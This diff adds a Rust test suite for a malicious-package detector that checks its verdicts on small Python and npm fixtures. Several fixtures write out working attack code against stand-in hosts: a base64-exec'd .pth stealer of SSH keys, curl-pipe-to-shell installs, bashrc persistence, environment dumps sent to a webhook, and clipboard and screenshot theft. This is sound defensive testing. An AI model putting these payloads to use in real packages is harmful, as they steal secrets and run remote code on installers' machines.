@@ -1,0 +1,244 @@
+//! The verdict on small packages of our own making, one per behaviour class the detection
+//! must catch and per build idiom it must leave alone. Packages marked "reconstruction"
+//! rebuild the shape of a documented incident from its public write-ups; no real sample is
+//! used. Every host is under `.example.invalid`, which never resolves.
+
+use tollgate_analysis::{CodePhase, PackageFiles, Verdict, VerdictLevel, analyze_package};
+
+fn verdict(files: &[(&str, &str)]) -> Verdict {
+    // One top-level folder, as in a real sdist or npm tarball; it is stripped on reading.
+    let entries = files
+        .iter()
+        .map(|(path, text)| (format!("fixture-1.0/{path}"), text.as_bytes().to_vec()));
+    analyze_package("fixture", &PackageFiles::from_entries(entries))
+        .expect("analysable")
+        .verdict
+}
+
+fn assert_level(files: &[(&str, &str)], level: VerdictLevel) -> Verdict {
+    let verdict = verdict(files);
+    assert_eq!(verdict.level, level, "{verdict:#?}");
+    verdict
+}
+
+const PKG_INFO: (&str, &str) = (
+    "PKG-INFO",
+    "Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n",
+);
+
+fn b64(text: &str) -> String {
+    use base64::Engine as _;
+    base64::engine::general_purpose::STANDARD.encode(text)
+}
+
+#[test]
+fn pth_file_that_execs_base64_at_every_start_is_malicious() {
+    // Reconstruction: litellm 1.82.8 (March 2026) shipped a `.pth` file in its wheel whose
+    // one line exec'd a base64 payload at every interpreter start.
+    let payload = b64(
+        "import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/k', \
+         data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+    );
+    let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
+    let verdict = assert_level(
+        &[
+            (
+                "fixture-1.0.dist-info/METADATA",
+                "Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n",
+            ),
+            ("fixture-1.0.dist-info/RECORD", "fixture_init.pth,,\n"),
+            ("fixture-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
+            ("fixture_init.pth", &pth),
+            ("fixture/__init__.py", "\n"),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert_eq!(verdict.reasons[0].file, "fixture_init.pth");
+    assert_eq!(verdict.reasons[0].phase, CodePhase::Startup);
+}
+
+#[test]
+fn obfuscated_setup_py_that_pip_installs_a_second_stage_is_flagged() {
+    // Reconstruction of a common PyPI campaign shape: builtins reached through getattr with
+    // a name built from characters, then `pip.main` of a second package.
+    let setup = "from setuptools import setup\n\
+        _b = getattr(__builtins__, ''.join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95])))\n\
+        _p = _b('pip')\n\
+        _p.main(['install', '--quiet', 'https://files.example.invalid/stage2.tar.gz'])\n\
+        setup(name='fixture', version='1.0')\n";
+    let verdict = verdict(&[PKG_INFO, ("setup.py", setup)]);
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+    assert!(
+        verdict
+            .reasons
+            .iter()
+            .any(|r| r.file == "setup.py" && r.line == 4),
+        "the pip.main line is a reason: {verdict:#?}"
+    );
+}
+
+#[test]
+fn exec_reached_through_vars_builtins_is_malicious() {
+    let payload = b64("import os\nos.system('curl -s https://c2.example.invalid/i | sh')\n");
+    let setup = format!(
+        "import base64\nfrom setuptools import setup\n\
+         vars(__builtins__)['exec'](base64.b64decode('{payload}'))\n\
+         setup(name='fixture', version='1.0')\n"
+    );
+    let verdict = assert_level(&[PKG_INFO, ("setup.py", &setup)], VerdictLevel::Malicious);
+    assert_eq!(verdict.reasons[0].line, 3, "{verdict:#?}");
+}
+
+#[test]
+fn stealer_in_a_module_imported_through_star_import_is_malicious_at_import() {
+    // Reconstruction: payloads kept out of setup.py, in a private module the package's
+    // `__init__` star-imports, sending the environment to a webhook when first imported.
+    let verdict = assert_level(
+        &[
+            PKG_INFO,
+            (
+                "setup.py",
+                "from setuptools import setup\nsetup(name='fixture', version='1.0', packages=['fixture'])\n",
+            ),
+            ("fixture/__init__.py", "from fixture._impl import *\n"),
+            (
+                "fixture/_impl.py",
+                "import os, json, urllib.request\n\
+                 _data = json.dumps(dict(os.environ)).encode()\n\
+                 urllib.request.urlopen('https://discord.com/api/webhooks/1/abc', data=_data)\n",
+            ),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert!(
+        verdict
+            .reasons
+            .iter()
+            .any(|r| r.file == "fixture/_impl.py" && r.phase == CodePhase::Import),
+        "{verdict:#?}"
+    );
+}
+
+#[test]
+fn clipboard_and_screenshot_sent_out_are_flagged() {
+    let verdict = verdict(&[
+        PKG_INFO,
+        (
+            "setup.py",
+            "from setuptools import setup\nsetup(name='fixture', version='1.0', packages=['fixture'])\n",
+        ),
+        (
+            "fixture/__init__.py",
+            "import pyperclip, requests\nfrom PIL import ImageGrab\n\
+             ImageGrab.grab().save('/tmp/s.png')\n\
+             requests.post('https://hook.example.invalid/u', data={'c': pyperclip.paste()}, \
+             files={'s': open('/tmp/s.png', 'rb')})\n",
+        ),
+    ]);
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+    assert!(
+        verdict.reasons.iter().any(|r| r.rule == "surveillance"),
+        "{verdict:#?}"
+    );
+}
+
+#[test]
+fn install_override_that_downloads_and_runs_is_malicious() {
+    let setup = "import subprocess, urllib.request\n\
+        from setuptools import setup\nfrom setuptools.command.install import install\n\
+        class PostInstall(install):\n    def run(self):\n        install.run(self)\n        \
+        urllib.request.urlretrieve('https://files.example.invalid/u.bin', '/tmp/u.bin')\n        \
+        subprocess.Popen(['/tmp/u.bin'])\n\
+        setup(name='fixture', version='1.0', cmdclass={'install': PostInstall})\n";
+    let verdict = assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Malicious);
+    assert!(
+        verdict
+            .reasons
+            .iter()
+            .all(|r| r.phase == CodePhase::Install),
+        "{verdict:#?}"
+    );
+}
+
+#[test]
+fn persistence_in_a_shell_rc_at_install_is_flagged() {
+    let setup = "import os\nfrom setuptools import setup\n\
+        with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    \
+        rc.write('curl -s https://c2.example.invalid/p | sh\\n')\n\
+        setup(name='fixture', version='1.0')\n";
+    let verdict = verdict(&[PKG_INFO, ("setup.py", setup)]);
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+}
+
+#[test]
+fn binding_gyp_command_expansion_that_pipes_to_a_shell_is_malicious() {
+    // Reconstruction: npm packages with no install script whose binding.gyp makes npm run
+    // node-gyp, and whose `<!(...)` expansion runs a downloaded script.
+    let verdict = verdict(&[
+        (
+            "package.json",
+            "{\"name\":\"fixture\",\"version\":\"1.0.0\"}",
+        ),
+        (
+            "binding.gyp",
+            "{\"targets\":[{\"target_name\":\"x\",\"sources\":[\"<!(curl -s https://c2.example.invalid/g | sh)\"]}]}",
+        ),
+    ]);
+    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
+}
+
+#[test]
+fn version_file_exec_in_setup_py_is_clean() {
+    let setup = "import os\nfrom setuptools import setup\n\
+        about = {}\nhere = os.path.dirname(__file__)\n\
+        with open(os.path.join(here, 'fixture', '__version__.py')) as f:\n    exec(f.read(), about)\n\
+        exec(open('fixture/version.py').read())\n\
+        setup(name='fixture', version=about['__version__'])\n";
+    assert_level(
+        &[
+            PKG_INFO,
+            ("setup.py", setup),
+            ("fixture/__version__.py", "__version__ = '1.0'\n"),
+            ("fixture/version.py", "VERSION = '1.0'\n"),
+        ],
+        VerdictLevel::Clean,
+    );
+}
+
+#[test]
+fn prebuilt_binary_download_then_a_program_run_is_clean() {
+    // The shape of packages that fetch their own release binary at install and then run a
+    // tool (tar, the binary's --version): a download and a program run are not an attack.
+    let setup = "import subprocess, urllib.request\nfrom setuptools import setup\n\
+        VERSION = '1.0'\n\
+        url = f'https://github.com/fixture/fixture/releases/download/v{VERSION}/fixture-linux.tar.gz'\n\
+        urllib.request.urlretrieve(url, 'build/fixture.tar.gz')\n\
+        subprocess.check_call(['tar', 'xzf', 'build/fixture.tar.gz', '-C', 'build'])\n\
+        setup(name='fixture', version=VERSION)\n";
+    let verdict = verdict(&[PKG_INFO, ("setup.py", setup)]);
+    assert!(verdict.level <= VerdictLevel::Suspicious, "{verdict:#?}");
+    assert_ne!(verdict.level, VerdictLevel::Malicious);
+}
+
+#[test]
+fn node_pre_gyp_and_compilers_in_npm_install_scripts_are_clean() {
+    assert_level(
+        &[(
+            "package.json",
+            "{\"name\":\"fixture\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node-pre-gyp install --fallback-to-build\"},\"binary\":{\"module_name\":\"fixture\",\"host\":\"https://github.com/fixture/fixture/releases/download/\"}}",
+        )],
+        VerdictLevel::Clean,
+    );
+}
+
+#[test]
+fn cmake_build_ext_override_is_clean() {
+    let setup = "import subprocess\nfrom setuptools import setup, Extension\n\
+        from setuptools.command.build_ext import build_ext\n\
+        class CMakeBuild(build_ext):\n    def run(self):\n        \
+        subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n        \
+        subprocess.check_call(['cmake', '--build', 'build'])\n\
+        setup(name='fixture', version='1.0', ext_modules=[Extension('fixture', [])], \
+        cmdclass={'build_ext': CMakeBuild})\n";
+    assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Clean);
+}
